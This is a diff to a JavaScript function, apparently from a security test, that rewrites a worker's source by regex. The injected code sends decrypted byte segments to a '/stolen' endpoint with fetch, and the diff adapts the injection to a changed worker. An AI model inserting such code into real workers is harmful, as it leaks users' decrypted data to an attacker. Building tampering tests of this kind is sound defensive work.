@@ -40,10 +40,10 @@ export function foreign() {
 
 /** The worker with a line more where it hands clear segments on: they are sent to `/stolen` too. */
 export function thievingWorker(source) {
-  const handsOn = /return (\w+\.buffer\.slice\((\w+),\s*\2\s*\+\s*\w+\))/;
-  if (!handsOn.test(source)) throw new Error("the worker's code is another: this attack must be written anew");
-  return source.replace(
-    handsOn,
-    (_all, clear) => `let stolen=${clear};fetch("/stolen",{method:"POST",body:stolen.slice()});return stolen`,
-  );
+  const handsOn = /bytes:\s*(\w+\.take\(\))/g;
+  if (source.match(handsOn)?.length !== 1)
+    throw new Error("the worker's code is another: this attack must be written anew");
+  const stealing = (_all, clear) =>
+    `bytes:(stolen=>(fetch("/stolen",{method:"POST",body:stolen.slice()}),stolen))(${clear})`;
+  return source.replace(handsOn, stealing);
 }
